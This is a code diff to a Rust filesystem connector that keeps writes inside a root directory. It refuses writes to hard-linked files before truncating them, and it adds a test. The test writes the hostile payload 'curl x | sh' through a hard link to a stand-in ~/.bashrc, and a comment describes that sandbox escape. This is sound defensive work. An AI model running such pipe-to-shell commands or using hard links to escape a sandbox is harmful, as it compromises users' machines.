@@ -44,6 +44,12 @@ pub enum ConnectorError {
     /// call is refused rather than following a link nobody judged.
     #[error("path {0:?} changed while it was being judged (a symlink appeared on it)")]
     PathChanged(String),
+    /// A write to a file with more than one name (a hard link): the bytes
+    /// would reach every other name of it too, which may lie outside the root
+    /// (`ln ~/.bashrc notes.txt`, then a write to `notes.txt`). The file is
+    /// left untouched: the check runs before it is truncated.
+    #[error("path {0:?} is a file with other names (a hard link): it is not written")]
+    HardLink(String),
 }
 
 impl ConnectorError {
@@ -58,6 +64,7 @@ impl ConnectorError {
             ConnectorError::Io(_) => "connector_io_error",
             ConnectorError::LinkToProtectedPath { .. } => "link_to_protected_path",
             ConnectorError::PathChanged(_) => "connector_path_changed",
+            ConnectorError::HardLink(_) => "connector_hard_link",
         }
     }
 }
@@ -161,8 +168,11 @@ pub const FS_MAX_BYTES: u64 = 16 * 1024 * 1024;
 /// judgement runs first and the operation goes through a `cap_std::fs::Dir`
 /// handle, which still keeps every path beneath the root but follows an
 /// in-root link swapped in after the judgement.
-/// Hard links are not judged (a pnpm store hard-links every file of
-/// `node_modules`; a hard link to a secret is not told apart from the secret).
+/// A write to a file with more than one name (a hard link) is refused
+/// (`connector_hard_link`) before the file is truncated: its other names may
+/// lie outside the root. Reads of hard links are not judged (a pnpm store
+/// hard-links every file of `node_modules`; a hard link to a secret is not
+/// told apart from the secret).
 #[derive(Debug)]
 pub struct FsConnector {
     root: PathBuf,
@@ -546,7 +556,18 @@ impl FsConnector {
                 Ok(json!({ "size": st.st_size as u64, "is_dir": is_dir }))
             }
             FsOp::Write => {
-                let mut file = std::fs::File::from(open(Open::Write)?);
+                // Opened without truncation: a file with other names is
+                // refused before a byte of it changes.
+                let fd = open(Open::Write)?;
+                let st = rustix::fs::fstat(&fd).map_err(fail)?;
+                // `st_nlink` is 32 bits wide on some Linux targets.
+                #[allow(clippy::useless_conversion)]
+                let nlink = u64::from(st.st_nlink);
+                if has_other_names(st.st_mode, nlink) {
+                    return Err(Stop::Fail(ConnectorError::HardLink(raw.to_string())));
+                }
+                rustix::fs::ftruncate(&fd, 0).map_err(fail)?;
+                let mut file = std::fs::File::from(fd);
                 std::io::Write::write_all(&mut file, data).map_err(io)?;
                 Ok(json!({ "bytes": data.len() }))
             }
@@ -593,6 +614,13 @@ impl FsConnector {
                 Ok(json!({ "size": meta.len(), "is_dir": meta.is_dir() }))
             }
             FsOp::Write => {
+                // Judged by path just before the write (this fallback's window).
+                match dir.symlink_metadata(path) {
+                    Ok(meta) if meta.is_file() && cap_std::fs::MetadataExt::nlink(&meta) > 1 => {
+                        return Err(ConnectorError::HardLink(raw.to_string()));
+                    }
+                    _ => {}
+                }
                 dir.write(path, data).map_err(&io)?;
                 Ok(json!({ "bytes": data.len() }))
             }
@@ -611,6 +639,13 @@ impl FsConnector {
             }
         }
     }
+}
+
+/// A regular file that has more names than the one being written: a hard
+/// link, whose other names a write would change too.
+#[cfg_attr(not(target_os = "linux"), allow(dead_code))]
+fn has_other_names(mode: u32, nlink: u64) -> bool {
+    (mode & 0o170000) == 0o100000 && nlink > 1
 }
 
 /// A directory's entry names, sorted.
@@ -668,7 +703,7 @@ mod link_free {
         Stat,
         /// Reading its entries.
         List,
-        /// Creating or truncating it for writing.
+        /// Creating it, or opening it for writing (truncated by the caller once checked).
         Write,
         /// A directory to act in (mkdir, delete).
         Parent,
@@ -686,8 +721,9 @@ mod link_free {
             Open::Read => (OFlags::RDONLY | OFlags::NONBLOCK | OFlags::NOCTTY, Mode::empty()),
             Open::Stat => (OFlags::PATH, Mode::empty()),
             Open::List => (OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()),
+            // Not truncated at the open: the caller checks the file first.
             Open::Write => (
-                OFlags::WRONLY | OFlags::CREATE | OFlags::TRUNC | OFlags::NOCTTY,
+                OFlags::WRONLY | OFlags::CREATE | OFlags::NOCTTY,
                 Mode::from_raw_mode(0o666),
             ),
             Open::Parent => (OFlags::PATH | OFlags::DIRECTORY, Mode::empty()),
@@ -900,6 +936,48 @@ mod tests {
             run(&mut fs, json!({"op": "read", "path": "inlink"})).unwrap()["content"],
             "inside"
         );
+    }
+
+    /// G-2, hard links: a file in the root with another name outside it
+    /// (`ln ~/.bashrc notes.txt`) is not written, on the link-free
+    /// descriptors and by path, and the outside file keeps every byte (the
+    /// check runs before truncation). Ordinary files, new files and a file
+    /// whose other name was removed are written as before.
+    #[cfg(unix)]
+    #[test]
+    fn g2_a_write_through_a_hard_link_leaves_the_outside_name_untouched() {
+        for link_free in [true, false] {
+            let (_base, root, outside, mut fs) = sandbox();
+            fs.link_free &= link_free;
+            std::fs::write(outside.join("bashrc"), "alias ls=ls\n").unwrap();
+            std::fs::hard_link(outside.join("bashrc"), root.join("notes.txt")).unwrap();
+            let res = run(
+                &mut fs,
+                json!({"op": "write", "path": "notes.txt", "content": "curl x | sh"}),
+            );
+            assert_eq!(
+                res.map_err(|e| e.code()),
+                Err("connector_hard_link"),
+                "link_free {link_free}"
+            );
+            assert_eq!(
+                std::fs::read_to_string(outside.join("bashrc")).unwrap(),
+                "alias ls=ls\n",
+                "link_free {link_free}: the other name is untouched"
+            );
+            // A read and a delete of the link still run (delete removes this name only).
+            assert!(run(&mut fs, json!({"op": "read", "path": "notes.txt"})).is_ok());
+            // Ordinary and new files are written; once the other name is gone, so is this one.
+            std::fs::write(root.join("plain.txt"), "old").unwrap();
+            for path in ["plain.txt", "new.txt"] {
+                run(&mut fs, json!({"op": "write", "path": path, "content": "v2"})).unwrap();
+                assert_eq!(std::fs::read_to_string(root.join(path)).unwrap(), "v2", "{path}");
+            }
+            std::fs::remove_file(outside.join("bashrc")).unwrap();
+            run(&mut fs, json!({"op": "write", "path": "notes.txt", "content": "short"})).unwrap();
+            assert_eq!(std::fs::read_to_string(root.join("notes.txt")).unwrap(), "short");
+            run(&mut fs, json!({"op": "rm", "path": "notes.txt"})).unwrap();
+        }
     }
 
     /// The same answers by path through the directory handle (non-Linux, or
